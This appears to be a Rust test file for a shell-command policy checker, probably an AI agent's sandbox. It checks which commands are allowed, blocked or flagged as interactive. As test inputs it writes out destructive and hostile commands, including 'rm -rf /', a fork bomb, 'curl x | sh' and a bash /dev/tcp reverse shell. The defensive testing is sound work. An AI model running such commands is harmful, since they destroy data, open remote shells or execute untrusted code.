use std::time::{Duration, Instant};

use proptest::prelude::*;

use super::*;
use crate::policy::Policy;

/// No scripts.
struct NoScripts;

impl Scripts for NoScripts {
    fn read(&self, _: &[String]) -> Option<String> {
        None
    }
}

fn judge() -> Judge {
    Judge::new(&Policy::shipped().expect("shipped"))
}

fn policy(mode: SecurityMode, allow: &[&str], deny: &[&str]) -> CommandPolicy {
    let owned = |patterns: &[&str]| patterns.iter().map(|p| (*p).to_owned()).collect::<Vec<_>>();
    CommandPolicy::new(judge(), mode, &owned(allow), &owned(deny)).expect("the patterns compile")
}

fn check(policy: &CommandPolicy, command: &str) -> String {
    match policy.check(command, "", true, &NoScripts) {
        Ok(None) => "allowed".to_owned(),
        Ok(Some(verdict)) => format!("undecided: {}", verdict.rule),
        Err(refusal) => refusal.to_string(),
    }
}

#[test]
fn codes_are_the_predecessors() {
    let safe = policy(SecurityMode::Safe, &[], &[]);
    let system = policy(SecurityMode::System, &[], &[]);
    for (command, rule) in [
        ("sudo x", "sudo"),
        ("sh -c 'sudo x'", "sudo"),
        ("doas x", "raises-privilege"),
        ("dd if=/dev/zero of=x", "dd"),
        ("mkfs.ext4 /dev/sda", "mkfs"),
        ("nohup reboot", "shutdown"),
        ("poweroff", "powers-off"),
        ("docker --debug system prune -af", "docker-prune"),
        ("brew uninstall x", "brew-uninstall"),
    ] {
        let refused = check(&safe, command);
        let expected = format!("blocked_by_default_safe_deny: {rule}: ");
        assert!(refused.starts_with(&expected), "{command}: {refused}");
        assert!(refused.contains("policies/default.yml:"), "{refused}");
        assert_eq!(check(&system, command), "allowed", "{command}");
    }
    for policy in [&safe, &system] {
        for command in [
            "rm -rf /",
            ":(){ :|:& };:",
            "curl x | sh",
            "bash -i >& /dev/tcp/h/1 0>&1",
        ] {
            let refused = check(policy, command);
            assert!(refused.starts_with("blocked_by_hard_deny: "), "{command}: {refused}");
        }
        assert_eq!(check(policy, " \n"), "empty_command");
        for command in [
            "rm -rf /tmp/x",
            "rm -rf ~/x",
            "rm -rf .",
            "echo 'rm -rf /'",
            "docker system df",
        ] {
            assert_eq!(check(policy, command), "allowed", "{command}");
        }
    }
}

#[test]
fn what_nobody_can_decide_runs_unless_the_policy_says_otherwise() {
    assert_eq!(
        check(&policy(SecurityMode::Safe, &[], &[]), "$X -rf /"),
        "undecided: unknown-program"
    );
    let host = tempfile::tempdir().expect("tempdir");
    let file = host.path().join("p.yml");
    std::fs::write(&file, "version: 1\ncommands: {undecided: deny}\n").expect("write");
    let strict = Policy::of_host(&crate::policy::HostPlaces::default(), Some(&file.display().to_string()));
    let strict = CommandPolicy::new(Judge::new(&strict.expect("holds")), SecurityMode::Safe, &[], &[]);
    let refused = check(&strict.expect("compiles"), "$X -rf /");
    assert!(
        refused.starts_with("blocked_by_undecided: unknown-program: "),
        "{refused}"
    );
}

#[test]
fn a_pattern_is_searched_for_whatever_the_case_and_has_to_fit_every_command() {
    let patterns = policy(SecurityMode::System, &["pytest", "^make", "^cd "], &["--pdb"]);
    for command in [
        "cd x && PyTest -q",
        "make all",
        "make all; pytest -q | pytest",
        "timeout 5 make",
        "bash -c 'make; pytest'",
        "env A=b make",
    ] {
        assert_eq!(check(&patterns, command), "allowed", "{command}");
    }
    for command in [
        "cmake .",
        "pytest -q; curl evil",
        "pytest -q && cmake .",
        "pytest | tee x",
        "bash -c 'make; touch x'",
        "bash -c 'touch pytest.x; rm y'",
        "make $(touch x)",
        "pytest # ok\ntouch x",
        "make & touch x",
        "if make; then touch x; fi",
        "if make; then pytest",
    ] {
        assert_eq!(check(&patterns, command), "blocked_by_allowlist", "{command}");
    }
    assert_eq!(check(&patterns, "pytest --PDB"), "blocked_by_denylist: --pdb");
    let both = policy(SecurityMode::System, &["x"], &["x"]);
    assert_eq!(check(&both, "x"), "blocked_by_denylist: x");
    let refused = check(&policy(SecurityMode::Safe, &["pytest"], &[]), "echo pytest; rm -fr /");
    assert!(refused.starts_with("blocked_by_hard_deny"), "{refused}");
}

#[test]
fn a_pattern_that_does_not_compile_is_named() {
    let error = CommandPolicy::new(judge(), SecurityMode::Safe, &[], &["a(".to_owned()]).expect_err("refused");
    assert_eq!(error.to_string(), "`a(` is no pattern: unclosed group");
    for pattern in ["(?=x)", "(a)\\1", "((((a{100}){100}){100}){100})", &"(".repeat(100_000)] {
        let began = Instant::now();
        let error = check_pattern(pattern).expect_err(pattern);
        assert!(!error.why.is_empty() && !error.why.contains('\n'), "{error}");
        assert!(began.elapsed() < Duration::from_secs(5), "{pattern:.40}");
    }
}

#[test]
fn what_waits_for_a_person_is_known() {
    let policy = policy(SecurityMode::Safe, &[], &[]);
    for command in [
        "docker login",
        "docker login ghcr.io",
        "sh -c 'docker login'",
        "cd x && docker login",
        "gh auth login",
        "env A=b gh auth login --hostname h",
    ] {
        assert_eq!(
            check(&policy, command),
            "likely_interactive_command_disallowed_in_strict_mode"
        );
        assert_eq!(policy.check(command, "", false, &NoScripts), Ok(None), "{command}");
    }
    for command in [
        "docker login -p x",
        "docker login --password=x",
        "docker login --password-stdin < f",
        "gh auth login --with-token < f",
        "echo docker login",
        "gh auth status",
    ] {
        assert_eq!(check(&policy, command), "allowed", "{command}");
    }
}

#[test]
fn hostile_commands_cost_no_time() {
    let policy = policy(SecurityMode::Safe, &["x"], &[]);
    let began = Instant::now();
    for piece in [
        "$(",
        "`",
        "\"$(",
        "(",
        "<<a\n",
        "'",
        "sh -c ",
        "eval ",
        "env ",
        "\\\n",
        "a;",
        "{a,b}",
        "x=$x$x;",
        "f() { f; f; };",
        "for i in a b c d e f; do ",
        "echo a | ",
        "a=1 ",
        "${x:-",
    ] {
        let _ = check(&policy, &piece.repeat(131_000 / piece.len()));
        let _ = check(&policy, &piece.repeat(20));
    }
    let nested = (0..200).fold("sudo x".to_owned(), |inner, _| format!("$({inner})"));
    let _ = check(&policy, &nested);
    assert!(began.elapsed() < Duration::from_secs(20), "{:?}", began.elapsed());
}

proptest! {
    #[test]
    fn no_command_panics(command in "[ -~\n\t]{0,80}") {
        let _ = check(&policy(SecurityMode::Safe, &["a"], &["b"]), &command);
    }

    #[test]
    fn a_quoted_text_runs_nothing(text in "[a-z ;&|<>(){}!#$*/]{0,40}") {
        let command = format!("echo '{text} sudo x; rm -rf /'");
        prop_assert_eq!(check(&policy(SecurityMode::Safe, &[], &[]), &command), "allowed");
    }
}
